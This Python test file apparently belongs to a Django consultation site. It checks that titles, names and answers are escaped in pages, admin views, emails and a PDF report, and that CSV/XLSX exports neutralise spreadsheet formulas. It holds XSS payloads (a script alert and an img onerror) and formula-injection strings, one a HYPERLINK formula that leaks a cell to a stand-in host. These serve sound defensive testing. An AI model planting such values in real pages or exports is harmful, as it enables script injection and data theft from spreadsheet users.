"""Hostile text is shown as text everywhere: public pages, admin, emails, CSV and the PDF."""

import csv
import io
import subprocess

import pytest
from django.core import mail

from consultations.models import Registration
from consultations.permissions import grant_page_permissions
from engage import audit
from tests import factories
from tests.consultations import builders

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert('x')</script>"
ESCAPED = "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;"
IMG = '<img src=x onerror="alert(1)">'


@pytest.fixture
def hostile(site_with_home, make_user):
    home = site_with_home.root_page
    consultations = builders.consultation_index_create(home)
    events = builders.event_index_create(home)
    grant_page_permissions(pages=[consultations, events])
    consultation = builders.consultation_create(
        consultations, title=f"Plans {SCRIPT}", summary=f"Summary {IMG} {SCRIPT}"
    )
    event = builders.event_create(
        events, title=f"Workshop {SCRIPT}", summary=f"About {SCRIPT}", capacity=10
    )
    return {
        "consultation": consultation,
        "event": event,
        "admin": make_user("admin@example.org", superuser=True),
    }


def _assert_escaped(html):
    assert SCRIPT not in html
    assert IMG not in html


def test_public_pages_escape_titles_and_summaries(client, hostile):
    for url in (hostile["consultation"].url, hostile["event"].url, "/"):
        response = client.get(url)
        assert response.status_code == 200
        html = response.content.decode()
        _assert_escaped(html)
    assert ESCAPED in client.get(hostile["consultation"].url).content.decode()


def test_registration_with_hostile_name_is_escaped_in_admin_email_and_csv(
    client, hostile, django_capture_on_commit_callbacks
):
    event = hostile["event"]
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            f"/workshops/{event.pk}/register/",
            {
                "name": f'=HYPERLINK("http://evil.example") {SCRIPT}',
                "email": "hostile@example.org",
                "capacity_type": "resident",
                "access_needs": ["other"],
                "access_other": f"{IMG} please",
                "consent_to_contact": "on",
            },
        )
    assert response.status_code == 302
    assert Registration.objects.filter(email="hostile@example.org").exists()

    # Emails: plain text carries the text as typed; any HTML part must escape it.
    assert mail.outbox
    for message in mail.outbox:
        for content, mimetype in getattr(message, "alternatives", []):
            if mimetype == "text/html":
                _assert_escaped(content)

    client.force_login(hostile["admin"])
    page = client.get(f"/admin/workshop-registrations/{event.pk}/")
    assert page.status_code == 200
    _assert_escaped(page.content.decode())

    export = client.get(f"/admin/workshop-registrations/{event.pk}/export.csv")
    assert export.status_code == 200
    text = b"".join(getattr(export, "streaming_content", [export.content])).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    hostile_cells = [cell for cell in cells if "HYPERLINK" in cell]
    assert hostile_cells, "the registration is in the export"
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in hostile_cells)


def test_admin_pages_escape_hostile_page_titles_and_audit_entries(client, hostile):
    client.force_login(hostile["admin"])
    audit.audit_record(
        user=hostile["admin"], action="personal_data.view", obj=hostile["consultation"]
    )
    for url in (
        f"/admin/pages/{hostile['consultation'].pk}/edit/",
        f"/admin/pages/{hostile['consultation'].get_parent().pk}/",
        "/admin/audit-log/",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        _assert_escaped(response.content.decode())


def test_committee_report_shows_hostile_text_as_text(site_with_home):
    pytest.importorskip("weasyprint")
    from feedback.reports.rendering import render_report_html, render_report_pdf
    from feedback.reports.services import report_create
    from tests.feedback.reports.report_factories import (
        agreement_question,
        make_consultation,
        make_responses,
    )

    consultation = make_consultation(title=f"Teams {SCRIPT}")
    question = agreement_question(consultation)
    make_responses(
        consultation,
        [(6, {"capacity": "vcse", "organisation_name": f"Network {SCRIPT}"})],
        question=question,
    )
    report = report_create(
        consultation=consultation,
        council_name=f"Council {IMG}",
        report_to="Health Scrutiny Committee",
        responsible_director="Dana Director",
        sections=[("section", {"title": f"Background {SCRIPT}", "body": f"<p>Why {IMG}</p>"})],
    )
    html = render_report_html(report)
    _assert_escaped(html)
    assert 'onerror="' not in html  # escaped in attributes, removed from the rich text
    pdf = render_report_pdf(report).content
    text = subprocess.run(
        ["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True
    ).stdout.decode()
    assert "<script>alert('x')</script>" in " ".join(text.split())


# --- Spreadsheet exports: formulas neutralised, HTML kept as the text typed -----------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")',
    "+44 1632 960001",
    "-2+3",
    "@SUM(A1:A9)",
]


def _assert_spreadsheet_safe(cells, *, expected_texts):
    """No cell can run as a formula; the hostile texts are all there, as plain text."""
    text_cells = [cell for cell in cells if isinstance(cell, str)]
    assert not [cell for cell in text_cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for text in expected_texts:
        if text.startswith(("=", "+", "-", "@")):
            assert "'" + text in text_cells, f"{text!r} is in the export, neutralised"
        else:
            assert text in text_cells, f"{text!r} is in the export exactly as typed"


@pytest.fixture
def hostile_responses(hostile):

    from feedback.models import Question
    from tests.feedback.conftest import make_questionnaire

    consultation = hostile["consultation"]
    make_questionnaire(consultation)
    free_text = Question.objects.get(
        section__questionnaire__consultation=consultation, kind=Question.Kind.LONG_TEXT
    )
    formulas = factories.ResponseFactory(
        consultation=consultation,
        respondent_name=FORMULAS[1],
        respondent_email="formula@example.org",
        team_or_service=FORMULAS[2],
        on_behalf_of_organisation=True,
        organisation_name=FORMULAS[3],
        answers={free_text: FORMULAS[0]},
    )
    html = factories.ResponseFactory(
        consultation=consultation,
        respondent_name=f"Jo {IMG}",
        respondent_email="html@example.org",
        answers={free_text: f"Too slow {SCRIPT}"},
    )
    return {"formulas": formulas, "html": html}


def test_feedback_csv_export_neutralises_formulas_and_keeps_html_as_text(
    client, hostile, hostile_responses
):
    client.force_login(hostile["admin"])
    export = client.get(f"/admin/feedback/{hostile['consultation'].pk}/export/csv/")
    assert export.status_code == 200
    assert export["Content-Disposition"].startswith("attachment;")
    assert export["X-Content-Type-Options"] == "nosniff"
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    _assert_spreadsheet_safe(cells, expected_texts=[*FORMULAS, f"Too slow {SCRIPT}", f"Jo {IMG}"])


def test_feedback_xlsx_export_has_no_formula_cells_and_keeps_html_as_text(
    client, hostile, hostile_responses
):
    from openpyxl import load_workbook

    client.force_login(hostile["admin"])
    export = client.get(f"/admin/feedback/{hostile['consultation'].pk}/export/xlsx/")
    assert export.status_code == 200
    assert export["Content-Disposition"].startswith("attachment;")
    sheet = load_workbook(io.BytesIO(export.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == [], "no formulas"
    # A typed text cell is never run, so XLSX keeps the text exactly as typed (no apostrophe).
    text_cells = {cell.value for cell in cells if cell.data_type == "s"}
    for text in [*FORMULAS, f"Too slow {SCRIPT}", f"Jo {IMG}"]:
        assert text in text_cells, f"{text!r} is in the export as text, exactly as typed"
    assert not [value for value in text_cells if value.startswith("'")]


def test_network_finance_csv_neutralises_formulas_and_keeps_html_as_text(client, make_user):
    import datetime
    from decimal import Decimal

    from django.utils import timezone

    from network import services
    from network.models import MemberProfile

    admin = make_user("finance-admin@example.org", superuser=True)
    member = MemberProfile.objects.create(
        user=make_user("claimant@example.org"),
        preferred_name=FORMULAS[0],
        postal_address=FORMULAS[3],
        taking_part_as=["resident"],
    )
    for description in (FORMULAS[2], f"Panel {SCRIPT}"):
        record = services.involvement_log(
            member=member,
            activity="group_meeting",
            date=timezone.localdate() - datetime.timedelta(days=1),
            hours=Decimal("2"),
            is_paid=True,
            description=description,
        )
        services.involvement_approve(record=record, approved_by=admin)
    client.force_login(admin)
    export = client.get("/admin/network/claims/finance.csv")
    assert export.status_code == 200
    assert export["Content-Disposition"].startswith("attachment;")
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert len(rows) == 3
    cells = [cell for row in rows[1:] for cell in row]
    _assert_spreadsheet_safe(
        cells, expected_texts=[FORMULAS[0], FORMULAS[2], FORMULAS[3], f"Panel {SCRIPT}"]
    )


def test_admin_response_page_escapes_hostile_answers(client, hostile, hostile_responses):
    client.force_login(hostile["admin"])
    page = client.get(f"/admin/responses/inspect/{hostile_responses['html'].pk}/")
    assert page.status_code == 200
    _assert_escaped(page.content.decode())
